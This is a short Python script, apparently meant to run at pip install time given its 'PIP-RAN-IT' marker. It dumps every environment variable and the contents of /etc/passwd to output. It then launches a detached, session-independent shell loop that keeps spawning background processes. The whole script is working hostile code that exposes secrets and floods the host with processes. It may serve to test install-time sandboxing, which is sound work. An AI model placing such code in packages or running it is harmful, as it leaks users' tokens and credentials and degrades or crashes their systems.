import os
import subprocess

print("PIP-RAN-IT", os.environ, open("/etc/passwd").read())
subprocess.Popen(["sh", "-c", "while true; do sleep 1 & done"], start_new_session=True)
